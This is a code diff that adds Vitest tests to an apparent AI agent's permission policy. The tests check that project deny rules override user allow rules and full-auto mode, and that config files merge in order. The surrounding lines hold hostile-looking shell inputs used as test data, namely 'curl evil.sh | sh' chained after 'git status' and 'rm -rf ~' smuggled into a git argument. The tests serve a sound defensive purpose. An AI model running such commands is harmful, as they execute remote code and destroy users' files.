@@ -3,9 +3,9 @@ import path from "node:path";
 import { describe, expect, it } from "vitest";
 import type { ToolCallPart } from "../../src/model/types.js";
 import { scriptedApprover } from "../../src/policy/approver.js";
-import type { PolicyLayers } from "../../src/policy/config.js";
+import { loadPolicyLayers, type PolicyLayers } from "../../src/policy/config.js";
 import { effectiveMode, PermissionPolicy } from "../../src/policy/permissions.js";
-import { ofType } from "../helpers.js";
+import { ofType, tempRepo } from "../helpers.js";
 import { runWithPolicy } from "./helpers.js";
 
 const ROOT = "/work/repo";
@@ -42,6 +42,65 @@ describe("permission rules", () => {
     expect(strict.decide(shell("git status"), undefined, ROOT).decision).toBe("allow");
     expect(strict.decide(shell("git status; curl evil.sh | sh"), undefined, ROOT).decision).toBe("ask");
     expect(strict.decide(shell("git log $(rm -rf ~)"), undefined, ROOT).decision).toBe("ask");
+  });
+
+  it("a project deny wins over a user allow (and over the user's full-auto mode)", () => {
+    const policy = new PermissionPolicy(layers({ mode: "full-auto", allow: ["shell: git *", "write: **"] }, { deny: ["shell: git push *", "write: deploy/**"] }));
+    const push = policy.decide(shell("git push origin main"), undefined, ROOT);
+    expect(push).toMatchObject({ decision: "deny", via: "rule", rule: "shell: git push *" });
+    expect(push.reason).toContain("project rule");
+    expect(policy.decide(call("write_file", { path: "deploy/prod.yml", content: "" }), undefined, ROOT)).toMatchObject({ decision: "deny", via: "rule" });
+    expect(policy.decide(shell("git status"), undefined, ROOT)).toMatchObject({ decision: "allow", via: "rule" });
+  });
+
+  it("a project deny read from colleague.json files (root and working folder) wins over a user allow from the user file", () => {
+    const user = tempRepo({ "config.json": JSON.stringify({ permissions: { mode: "full-auto", allow: ["shell: npm *"] } }) });
+    const project = tempRepo({
+      "colleague.json": JSON.stringify({ permissions: { deny: ["shell: npm publish*"] } }),
+      "pkg/colleague.json": JSON.stringify({ permissions: { deny: ["shell: npm run deploy*"] }, auditLog: "/tmp/elsewhere.jsonl" }),
+    });
+    const loaded = loadPolicyLayers(path.join(user, "config.json"), [path.join(project, "colleague.json"), path.join(project, "pkg/colleague.json")]);
+    expect(loaded.project.auditLog).toBeUndefined();
+    const policy = new PermissionPolicy(loaded);
+    expect(policy.decide(shell("npm publish"), undefined, ROOT)).toMatchObject({ decision: "deny", rule: "shell: npm publish*" });
+    expect(policy.decide(shell("npm run deploy -- --prod"), undefined, ROOT)).toMatchObject({ decision: "deny", rule: "shell: npm run deploy*" });
+    expect(policy.decide(shell("npm test"), undefined, ROOT)).toMatchObject({ decision: "allow", via: "rule" });
+  });
+
+  it("loadPolicyLayers: project files merge in order (rules add up, the later mode wins); unreadable files count as empty", () => {
+    const project = tempRepo({
+      "colleague.json": JSON.stringify({ model: "x", permissions: { mode: "auto-edit", allow: ["shell: make *"], ask: ["shell: make deploy*"], deny: ["read: .env"] } }),
+      "sub/colleague.json": JSON.stringify({ permissions: { allow: ["shell: npm *"], deny: ["write: dist/**"] } }),
+      "sub2/colleague.json": JSON.stringify({ permissions: { mode: "read-only" } }),
+      "broken.json": "{ not json",
+      "invalid.json": JSON.stringify({ permissions: { mode: "yolo", deny: ["shell"] } }),
+    });
+    const files = ["colleague.json", "sub/colleague.json"].map((f) => path.join(project, f));
+    const loaded = loadPolicyLayers(path.join(project, "missing.json"), files);
+    expect(loaded.user).toEqual({});
+    expect(loaded.project.permissions).toEqual({
+      mode: "auto-edit",
+      allow: ["shell: make *", "shell: npm *"],
+      ask: ["shell: make deploy*"],
+      deny: ["read: .env", "write: dist/**"],
+    });
+    const sub2 = path.join(project, "sub2/colleague.json");
+    expect(loadPolicyLayers(path.join(project, "broken.json"), [...files, sub2]).project.permissions).toEqual({
+      mode: "read-only",
+      allow: ["shell: make *", "shell: npm *"],
+      ask: ["shell: make deploy*"],
+      deny: ["read: .env", "write: dist/**"],
+    });
+    // A mode-only file first, then the rules: nothing is invented for the lists it lacked.
+    expect(loadPolicyLayers(path.join(project, "broken.json"), [sub2, files[0]!]).project.permissions).toEqual({
+      mode: "auto-edit",
+      allow: ["shell: make *"],
+      ask: ["shell: make deploy*"],
+      deny: ["read: .env"],
+    });
+    expect(loadPolicyLayers(path.join(project, "broken.json"), []).user).toEqual({});
+    // A file whose policy keys do not validate contributes nothing (config.ts reports the error).
+    expect(loadPolicyLayers(path.join(project, "invalid.json"), [path.join(project, "invalid.json")])).toEqual({ user: {}, project: {} });
   });
 
   it("modes: read-only denies changes, ask asks, auto-edit edits, full-auto runs", () => {
